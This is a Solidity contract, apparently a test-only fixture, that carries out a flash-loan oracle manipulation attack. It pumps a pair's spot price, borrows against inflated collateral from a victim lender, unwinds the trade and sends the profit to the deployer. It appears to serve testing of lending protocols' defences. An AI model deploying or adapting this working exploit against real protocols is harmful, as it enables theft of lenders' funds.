// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IUniswapV2Pair} from "../../interfaces/IUniswapV2Pair.sol";
import {PairSwaps} from "../../flash/libraries/PairSwaps.sol";

/// @notice What the attacker needs from a lending market it attacks.
interface ICollateralLender {
    function borrow(uint256 collateral, uint256 loan) external;
}

/// @title SpotManipulationAttacker
/// @notice TEST-ONLY. The classic flash-loan oracle attack, in one transaction: borrow the loan token from a
///         flash lender, buy the collateral token on the pair (its spot price jumps), post collateral it
///         already holds to a lender that trusts that spot price and borrow against it at the inflated value,
///         sell everything it bought back (the price falls back), repay the flash loan and keep the
///         difference. The lender is left with collateral worth less than the loan.
contract SpotManipulationAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;
    using PairSwaps for IUniswapV2Pair;

    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    IERC3156FlashLender private immutable _flashLender;
    IUniswapV2Pair private immutable _pair;
    ICollateralLender private immutable _victim;
    address private immutable _owner;

    /// @notice The callback was not started by this contract through the configured flash lender.
    error UntrustedCallback(address caller, address initiator);

    /// @param flashLender_ Where the attack capital is borrowed.
    /// @param pair_ The pair whose spot price the victim trusts.
    /// @param victim_ The lender that values collateral at the pair's spot price.
    constructor(IERC3156FlashLender flashLender_, IUniswapV2Pair pair_, ICollateralLender victim_) {
        _flashLender = flashLender_;
        _pair = pair_;
        _victim = victim_;
        _owner = msg.sender;
    }

    /// @notice Runs the attack with `flashAmount` of `loanToken`: `collateral` of the collateral token (which
    ///         this contract must already hold) is posted to the victim, which is asked for `loan`. Everything
    ///         left afterwards goes to the deployer.
    /// @param loanToken Token borrowed from the flash lender and from the victim.
    /// @param flashAmount Size of the flash loan used to push the spot price.
    /// @param collateral Amount of the bought collateral token posted to the victim.
    /// @param loan Amount borrowed from the victim.
    function attack(address loanToken, uint256 flashAmount, uint256 collateral, uint256 loan) external {
        _flashLender.flashLoan(this, loanToken, flashAmount, abi.encode(collateral, loan));
        address collateralToken = _pair.otherToken(loanToken);
        IERC20(loanToken).safeTransfer(_owner, IERC20(loanToken).balanceOf(address(this)));
        IERC20(collateralToken).safeTransfer(_owner, IERC20(collateralToken).balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address initiator,
        address token,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        if (msg.sender != address(_flashLender) || initiator != address(this)) {
            revert UntrustedCallback(msg.sender, initiator);
        }
        (uint256 collateral, uint256 loan) = abi.decode(data, (uint256, uint256));
        address collateralToken = _pair.otherToken(token);

        uint256 bought = _pair.sellExact(token, amount, address(this)); // spot price of collateral jumps
        IERC20(collateralToken).forceApprove(address(_victim), collateral);
        _victim.borrow(collateral, loan); // priced at the manipulated spot
        _pair.sellExact(collateralToken, bought, address(this)); // price falls back

        IERC20(token).forceApprove(msg.sender, amount + fee);
        return CALLBACK_SUCCESS;
    }
}
